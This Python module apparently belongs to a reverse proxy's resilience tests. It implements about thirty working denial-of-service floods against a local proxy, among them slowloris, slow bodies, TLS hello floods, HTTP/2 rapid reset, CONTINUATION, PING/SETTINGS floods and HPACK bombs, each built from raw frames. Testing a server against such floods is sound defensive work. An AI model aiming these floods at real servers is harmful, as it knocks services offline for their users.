"""Floods: what somebody does who wants others not to be served, one class after another, each by legal or broken bytes of its own.

Facts: the classes are those of published attacks on proxies (slow heads, bodies and readers; rapid reset, CVE-2023-44487; CONTINUATION,
CVE-2024-27316; PING, SETTINGS, empty frames and windows, CVE-2019-9511 to -9518; MadeYouReset, CVE-2025-8671; HPACK and cookie bombs).
One attacker at a home's upload rate is meant, not a botnet: each flood is one thread that keeps some `SOCKETS` connections busy and rests
a little between two rounds.

Rules: a flood only sends and counts; whether others are served is for whoever runs it. It ends when it is told to, and closes what it
opened.

`python -m bench.floods` measures: p99 of another client's requests, quiet and during each flood, with the flood in a process of its own.
`tests/attack/test_floods.py` has the counts: served, nothing crashed, memory and descriptors.
"""

from __future__ import annotations

import base64
import contextlib
import socket
import ssl
import struct
import threading
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Final

SOCKETS: Final = 40

# A route behind a password, for the flood of wrong ones; its hash takes a quarter of a second to check.
LOCKED: Final = """[[sites."photos.test".routes]]
prefix = "/locked"
request = [{ basic_auth = { admin = "$2b$12$Es2CUpJoBDvykpokeoygued/gJn3H8BFpP7JT9Z/eD8iudUG19pWq" } }]
respond = { body = "open" }
"""
_REST_S: Final = 0.01
_WAIT_S: Final = 5.0

# Frame types and flags (RFC 9113 6).
_DATA, _HEADERS, _PRIORITY, _RST, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


@dataclass(slots=True)
class Target:
    """Where a proxy listens: for HTTP/1.1 in the clear, and for HTTP/1.1 and HTTP/2 over TLS."""

    plain: int
    secure: int
    host: str = "photos.test"


@dataclass(slots=True)
class Seen:
    """What a flood did and met."""

    opened: int = 0
    closed: int = 0
    """Connections that the proxy ended."""
    rounds: int = 0
    failed: int = 0
    """Connections that could not be made."""


class Attack:
    """The attacker's connections. `over` says when to stop."""

    def __init__(self, target: Target, over: threading.Event, sockets: int = SOCKETS) -> None:
        self.target = target
        self.sockets = sockets
        self.over = over
        self.seen = Seen()
        self.socks: list[socket.socket] = []

    def plain(self) -> socket.socket | None:
        """Open a connection in the clear; None if that fails."""
        try:
            sock = socket.create_connection(("127.0.0.1", self.target.plain), _WAIT_S)
        except OSError:
            self.seen.failed += 1
            return None
        self.seen.opened += 1
        return sock

    def secure(self, alpn: str = "h2") -> socket.socket | None:
        """Open a connection with TLS; None if that fails."""
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols([alpn])
        try:
            raw = socket.create_connection(("127.0.0.1", self.target.secure), _WAIT_S)
            sock = context.wrap_socket(raw, server_hostname=self.target.host)
        except OSError:
            self.seen.failed += 1
            return None
        self.seen.opened += 1
        return sock

    def keep(self, opens: Callable[[], socket.socket | None], first: Callable[[int], bytes] = lambda _: b"") -> None:
        """Bring the number of open connections to `sockets`; `first` is what each begins with, by its number."""
        while len(self.socks) < self.sockets and not self.over.is_set():
            sock = opens()
            if sock is None:
                return
            sock.setblocking(False)
            self.socks.append(sock)
            self.send(sock, first(self.seen.opened))

    def send(self, sock: socket.socket, data: bytes) -> bool:
        """Send what is taken at once. False if the connection is over."""
        try:
            if data:
                sock.send(data)
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            return True
        except OSError:
            self.lose(sock)
            return False
        return True

    def drain(self, sock: socket.socket, most: int = 65_536) -> bytes:
        """Read what is there. What ends is given up."""
        try:
            data = sock.recv(most)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return b""
        except OSError:
            data = b""
        if not data:
            self.lose(sock)
        return data

    def lose(self, sock: socket.socket) -> None:
        """Note that the proxy ended a connection."""
        sock.close()
        if sock in self.socks:
            self.socks.remove(sock)
            self.seen.closed += 1

    def rest(self) -> None:
        """Wait a moment between two rounds."""
        self.seen.rounds += 1
        self.over.wait(_REST_S)

    def close(self) -> None:
        """End everything."""
        for sock in self.socks:
            with contextlib.suppress(OSError):
                sock.close()
        self.socks.clear()


# ---------------------------------------------------------------- bytes


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame (RFC 9113 4.1)."""
    return struct.pack(">L", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">L", stream) + payload


def literal(name: bytes, value: bytes, index: int = 0) -> bytes:
    """Return a field that enters no table (RFC 7541 6.2.2), its name by `index` or in full."""
    head = bytes((index,)) if index else b"\x00" + _string(name)
    return head + _string(value)


def _string(data: bytes) -> bytes:
    length = len(data)
    if length < 127:
        return bytes((length,)) + data
    size = b"\x7f"
    length -= 127
    while length >= 128:
        size += bytes((length % 128 + 128,))
        length //= 128
    return size + bytes((length,)) + data


def request(host: str, path: bytes = b"/", more: bytes = b"") -> bytes:
    """Return the header block of a GET."""
    return b"\x82\x87" + literal(b"", path, 4) + literal(b"", host.encode(), 1) + more


def begin(*settings: tuple[int, int]) -> bytes:
    """Return how a client begins."""
    return _PREFACE + frame(_SETTINGS, 0, 0, b"".join(struct.pack(">HL", *each) for each in settings))


def head(attack: Attack, more: bytes = b"", method: bytes = b"GET", path: bytes = b"/") -> bytes:
    """Return a request head of HTTP/1.1."""
    return b"%s %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (method, path, attack.target.host.encode(), more)


# ---------------------------------------------------------------- HTTP/1.1


def slow_heads(attack: Attack) -> None:
    """Heads that come a byte at a time and never end (slowloris)."""
    while not attack.over.is_set():
        attack.keep(attack.plain, lambda _: b"GET / HTTP/1.1\r\nX: ")
        for sock in list(attack.socks):
            if attack.send(sock, b"a"):
                attack.drain(sock)
        attack.rest()


def slow_bodies(attack: Attack) -> None:
    """Bodies that come a byte at a time (R-U-Dead-Yet)."""
    while not attack.over.is_set():
        attack.keep(attack.plain, lambda _: head(attack, b"Content-Length: 1000000000\r\n", b"POST"))
        for sock in list(attack.socks):
            if attack.send(sock, b"a"):
                attack.drain(sock)
        attack.rest()


def slow_chunks(attack: Attack) -> None:
    """Bodies of chunks of a byte, each with a long extension."""
    piece = b"1;" + b"a" * 500 + b"\r\nx\r\n"
    while not attack.over.is_set():
        attack.keep(attack.plain, lambda _: head(attack, b"Transfer-Encoding: chunked\r\n", b"POST"))
        for sock in list(attack.socks):
            if attack.send(sock, piece * 4):
                attack.drain(sock)
        attack.rest()


def slow_readers(attack: Attack) -> None:
    """Large answers, of which a byte is read now and then."""
    while not attack.over.is_set():
        attack.keep(attack.plain, lambda _: head(attack, path=b"/large"))
        for sock in list(attack.socks):
            attack.drain(sock, 1)
        attack.rest()


def pipelines(attack: Attack) -> None:
    """Requests without end, and no answer is read."""
    while not attack.over.is_set():
        attack.keep(attack.plain)
        for sock in list(attack.socks):
            attack.send(sock, head(attack) * 50)
        attack.rest()


def huge_heads(attack: Attack) -> None:
    """Heads larger than the limit, and heads of many fields, on new connections each time."""
    shapes = (b"X: " + b"a" * 60_000 + b"\r\n", b"".join(b"x%d: y\r\n" % at for at in range(3_000)))
    while not attack.over.is_set():
        attack.keep(attack.plain, lambda number: head(attack, shapes[number % 2]))
        for sock in list(attack.socks):
            attack.drain(sock)
        attack.rest()


def many_ranges(attack: Attack) -> None:
    """Requests for thousands of ranges, as many as a head may hold."""
    ranges = b"Range: bytes=" + b",".join(b"%d-" % at for at in range(1_200)) + b"\r\n"
    while not attack.over.is_set():
        attack.keep(attack.plain, lambda _: head(attack, ranges))
        for sock in list(attack.socks):
            if attack.drain(sock) and sock in attack.socks:
                attack.send(sock, head(attack, ranges))
        attack.rest()


def wrong_passwords(attack: Attack) -> None:
    """Passwords that are not right, another one each time, where the hash of the right one is slow on purpose."""

    def shown(number: int) -> bytes:
        text = base64.b64encode(b"admin:%d of %d" % (number, attack.seen.rounds))
        return head(attack, b"Authorization: Basic " + text + b"\r\n", path=b"/locked")

    while not attack.over.is_set():
        attack.keep(attack.plain, shown)
        for number, sock in enumerate(list(attack.socks)):
            if attack.drain(sock) and sock in attack.socks:
                attack.send(sock, shown(number))
        attack.rest()


def file_readers(attack: Attack) -> None:
    """Files of which a byte is read now and then; each holds a descriptor."""
    while not attack.over.is_set():
        attack.keep(attack.plain, lambda _: head(attack, path=b"/files/large"))
        for sock in list(attack.socks):
            attack.drain(sock, 1)
        attack.rest()


def file_ranges(attack: Attack) -> None:
    """Ranges of a file: overlapping, and as many as a head may hold (CVE-2011-3192)."""
    shapes = (b",".join([b"0-"] * 1_200), b",".join(b"%d-%d" % (at * 3, at * 3 + 1) for at in range(1_000)))
    while not attack.over.is_set():
        attack.keep(attack.plain, lambda number: head(attack, b"Range: bytes=%s\r\n" % shapes[number % 2], path=b"/files/large"))
        for sock in list(attack.socks):
            attack.drain(sock, 1)
        attack.rest()


def connections(attack: Attack) -> None:
    """Connections that come and go, and some that stay and say nothing."""
    while not attack.over.is_set():
        attack.keep(attack.plain)
        for _ in range(20):
            sock = attack.plain()
            if sock is not None:
                sock.close()
        for sock in list(attack.socks):
            attack.drain(sock)
        attack.rest()


def websocket_bytes(attack: Attack) -> None:
    """Upgraded connections with frames of one byte."""
    upgrade = b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    while not attack.over.is_set():
        attack.keep(attack.plain, lambda _: head(attack, upgrade, path=b"/socket"))
        for sock in list(attack.socks):
            if attack.send(sock, b"\x81\x81\0\0\0\0a"):
                attack.drain(sock)
        attack.rest()


# ---------------------------------------------------------------- TLS


def handshakes(attack: Attack) -> None:
    """Handshakes that are begun and left."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    while not attack.over.is_set():
        for _ in range(10):
            sock = _raw(attack)
            if sock is not None:
                attack.send(sock, _hello(context, attack.target.host))
                sock.close()
        attack.rest()


def slow_hellos(attack: Attack) -> None:
    """Hellos that come a byte at a time."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    hello = _hello(context, attack.target.host)
    sent: dict[socket.socket, int] = {}
    while not attack.over.is_set():
        attack.keep(lambda: _raw(attack))
        for sock in list(attack.socks):
            at = sent.get(sock, 0)
            sent[sock] = at + 1
            # The last byte never comes.
            if attack.send(sock, hello[at : at + 1] if at < len(hello) - 1 else b""):
                attack.drain(sock)
        attack.rest()


def huge_hellos(attack: Attack) -> None:
    """Records that announce a hello larger than any."""
    record = b"\x16\x03\x01\x40\x00" + b"\x01\xff\xff\xff\x03\x03" + b"\0" * (16_384 - 6)
    while not attack.over.is_set():
        attack.keep(lambda: _raw(attack), lambda _: record)
        for sock in list(attack.socks):
            if attack.send(sock, record):
                attack.drain(sock)
        attack.rest()


def _raw(attack: Attack) -> socket.socket | None:
    try:
        sock = socket.create_connection(("127.0.0.1", attack.target.secure), _WAIT_S)
    except OSError:
        attack.seen.failed += 1
        return None
    attack.seen.opened += 1
    return sock


def _hello(context: ssl.SSLContext, host: str) -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    made = context.wrap_bio(incoming, outgoing, server_hostname=host)
    with contextlib.suppress(ssl.SSLWantReadError):
        made.do_handshake()
    return outgoing.read()


# ---------------------------------------------------------------- HTTP/2


def _over_h2(attack: Attack, opens: bytes, piece: Callable[[int], bytes], reads: bool = True) -> None:
    """Keep connections of HTTP/2 busy: `opens` first, then `piece` again and again, with the number of the next stream."""
    streams: dict[socket.socket, int] = {}
    while not attack.over.is_set():
        attack.keep(attack.secure, lambda _: opens)
        for sock in list(attack.socks):
            stream = streams.get(sock, 1)
            data = piece(stream)
            streams[sock] = stream + 2 * _STREAMS_EACH
            if attack.send(sock, data) and reads:
                attack.drain(sock)
        for sock in list(streams):
            if sock not in attack.socks:
                del streams[sock]
        attack.rest()


_STREAMS_EACH: Final = 20


def _each(stream: int, make: Callable[[int], bytes]) -> bytes:
    return b"".join([make(stream + 2 * at) for at in range(_STREAMS_EACH)])


def rapid_resets(attack: Attack) -> None:
    """Streams that are opened and cancelled at once."""
    block = request(attack.target.host)

    def one(stream: int) -> bytes:
        return frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, block) + frame(_RST, 0, stream, struct.pack(">L", 8))

    _over_h2(attack, begin(), lambda stream: _each(stream, one))


def made_resets(attack: Attack) -> None:
    """Streams that we have to reset: each gets a WINDOW_UPDATE of nothing."""
    block = request(attack.target.host)

    def one(stream: int) -> bytes:
        return frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, block) + frame(_WINDOW, 0, stream, struct.pack(">L", 0))

    _over_h2(attack, begin(), lambda stream: _each(stream, one))


def continuations(attack: Attack) -> None:
    """A header block that never ends."""
    opens = begin() + frame(_HEADERS, _END_STREAM, 1, request(attack.target.host))
    _over_h2(attack, opens, lambda _: frame(_CONTINUATION, 0, 1, literal(b"x", b"y" * 1_000)) * 20)


def empty_continuations(attack: Attack) -> None:
    """A header block that goes on with nothing, for ever."""
    opens = begin() + frame(_HEADERS, _END_STREAM, 1, request(attack.target.host))
    _over_h2(attack, opens, lambda _: frame(_CONTINUATION, 0, 1) * 200)


def settings(attack: Attack) -> None:
    """SETTINGS, each to be acknowledged, and nothing is read."""
    _over_h2(attack, begin(), lambda _: frame(_SETTINGS, 0, 0, struct.pack(">HL", 4, 65_535)) * 100, reads=False)


def pings(attack: Attack) -> None:
    """PING, each to be answered, and nothing is read."""
    _over_h2(attack, begin(), lambda _: frame(_PING, 0, 0, b"12345678") * 100, reads=False)


def empty_data(attack: Attack) -> None:
    """A request body of empty DATA frames."""
    opens = begin() + frame(_HEADERS, _END_HEADERS, 1, b"\x83\x87\x84" + literal(b"", attack.target.host.encode(), 1))
    _over_h2(attack, opens, lambda _: frame(_DATA, 0, 1) * 200)


def priorities(attack: Attack) -> None:
    """PRIORITY for streams that are not there."""

    def piece(stream: int) -> bytes:
        return b"".join([frame(_PRIORITY, 0, stream + 2 * at, struct.pack(">LB", 0, 7)) for at in range(200)])

    _over_h2(attack, begin(), piece)


def window_updates(attack: Attack) -> None:
    """Credit, a byte at a time."""
    _over_h2(attack, begin(), lambda _: frame(_WINDOW, 0, 0, struct.pack(">L", 1)) * 200)


def shut_windows(attack: Attack) -> None:
    """Many large answers on each connection whose windows are shut, opened by a byte now and then."""
    block = request(attack.target.host, b"/large")
    heads = b"".join([frame(_HEADERS, _END_STREAM | _END_HEADERS, 1 + 2 * at, block) for at in range(100)])
    _over_h2(attack, begin((4, 0)) + heads, lambda _: frame(_WINDOW, 0, 1, struct.pack(">L", 1)))


def window_swings(attack: Attack) -> None:
    """The initial window to and fro while answers wait."""
    block = request(attack.target.host, b"/large")
    heads = b"".join([frame(_HEADERS, _END_STREAM | _END_HEADERS, 1 + 2 * at, block) for at in range(50)])
    swing = frame(_SETTINGS, 0, 0, struct.pack(">HL", 4, 1)) + frame(_SETTINGS, 0, 0, struct.pack(">HL", 4, 0))
    _over_h2(attack, begin((4, 0)) + heads, lambda _: swing * 20)


def hpack_bombs(attack: Attack) -> None:
    """One large field into the table, and then thousands of bytes that each mean that field."""
    # With incremental indexing (RFC 7541 6.2.1): it becomes entry 62.
    large = b"\x40" + _string(b"x") + _string(b"y" * 3_900)
    bomb = request(attack.target.host, more=large + b"\xbe" * 4_000)

    def one(stream: int) -> bytes:
        return frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, bomb)

    _over_h2(attack, begin(), lambda stream: one(stream) * 1)


def cookie_crumbs(attack: Attack) -> None:
    """Thousands of tiny fields in each of many requests, whose answers are not taken."""
    # `cookie: a` into the table, then by index, a byte each.
    crumbs = b"\x60" + _string(b"a") + b"\xbe" * 8_000
    bomb = request(attack.target.host, more=crumbs)
    _over_h2(attack, begin((4, 0)), lambda stream: _each(stream, lambda each: frame(_HEADERS, _END_STREAM | _END_HEADERS, each, bomb)))


def slow_streams(attack: Attack) -> None:
    """Many request bodies on each connection, a byte at a time."""
    block = b"\x83\x87\x84" + literal(b"", attack.target.host.encode(), 1)
    heads = b"".join([frame(_HEADERS, _END_HEADERS, 1 + 2 * at, block) for at in range(100)])
    _over_h2(attack, begin() + heads, lambda stream: frame(_DATA, 0, stream % 200 | 1, b"a"))


@dataclass(frozen=True, slots=True)
class Flood:
    """One class. `ends` tells that the proxy must end the attacker's connections, which do what no client needs."""

    name: str
    run: Callable[[Attack], None]
    ends: bool = False
    sockets: int = SOCKETS
    streams: int = 0
    """Streams of each connection that wait for the client at the same time."""


FLOODS: Final = (
    Flood("slow heads", slow_heads, ends=True),
    Flood("slow bodies", slow_bodies),
    Flood("tiny chunks with long extensions", slow_chunks, ends=True),
    Flood("slow readers", slow_readers),
    Flood("pipelines nobody reads", pipelines),
    Flood("huge heads", huge_heads, ends=True),
    Flood("many ranges", many_ranges),
    Flood("wrong passwords", wrong_passwords),
    Flood("slow readers of a file", file_readers),
    Flood("many ranges of a file", file_ranges),
    Flood("connections", connections),
    Flood("WebSocket frames of a byte", websocket_bytes),
    Flood("TLS handshakes", handshakes),
    Flood("TLS hellos byte by byte", slow_hellos, ends=True),
    Flood("TLS hellos without end", huge_hellos, ends=True),
    Flood("HTTP/2 rapid reset", rapid_resets, ends=True),
    Flood("HTTP/2 made resets", made_resets, ends=True),
    Flood("HTTP/2 CONTINUATION", continuations, ends=True),
    Flood("HTTP/2 empty CONTINUATION", empty_continuations, ends=True),
    Flood("HTTP/2 SETTINGS", settings, ends=True),
    Flood("HTTP/2 PING", pings, ends=True),
    Flood("HTTP/2 empty DATA", empty_data, ends=True),
    Flood("HTTP/2 PRIORITY", priorities, ends=True),
    Flood("HTTP/2 credit byte by byte", window_updates, ends=True),
    Flood("HTTP/2 windows that stay shut", shut_windows, sockets=5, streams=100),
    Flood("HTTP/2 windows to and fro", window_swings, ends=True, sockets=5, streams=50),
    Flood("HPACK bombs", hpack_bombs, ends=True),
    Flood("cookie crumbs", cookie_crumbs, ends=True),
    Flood("HTTP/2 slow bodies", slow_streams, sockets=5, streams=100),
)


@dataclass(slots=True)
class Running:
    """A flood in a thread of its own."""

    attack: Attack
    thread: threading.Thread
    trouble: list[BaseException] = field(default_factory=list)

    def stop(self) -> Seen:
        """End it; return what it did. Raises what it failed of."""
        self.attack.over.set()
        self.thread.join(4 * _WAIT_S)
        self.attack.close()
        if self.trouble:
            raise self.trouble[0]
        return self.attack.seen


def start(flood: Flood, target: Target) -> Running:
    """Begin a flood."""
    attack = Attack(target, threading.Event(), flood.sockets)

    def run() -> None:
        try:
            flood.run(attack)
        except BaseException as bad:
            running.trouble.append(bad)

    running = Running(attack, threading.Thread(target=run, name=flood.name, daemon=True))
    running.thread.start()
    return running
